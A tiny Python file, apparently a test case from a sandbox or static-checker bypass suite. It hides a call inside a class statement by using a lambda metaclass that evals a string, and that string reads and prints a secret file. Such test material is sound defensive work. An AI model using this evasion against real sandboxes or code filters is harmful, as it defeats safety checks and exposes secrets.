# attack: a class statement is a call: its metaclass is a function, its bases and keywords the arguments, and nothing looks like a call
# family: attribute
class found("print(open('$SECRET_FILE').read())", metaclass=lambda name, bases, body: eval(bases[0])):
    pass
print("REACHED", found)
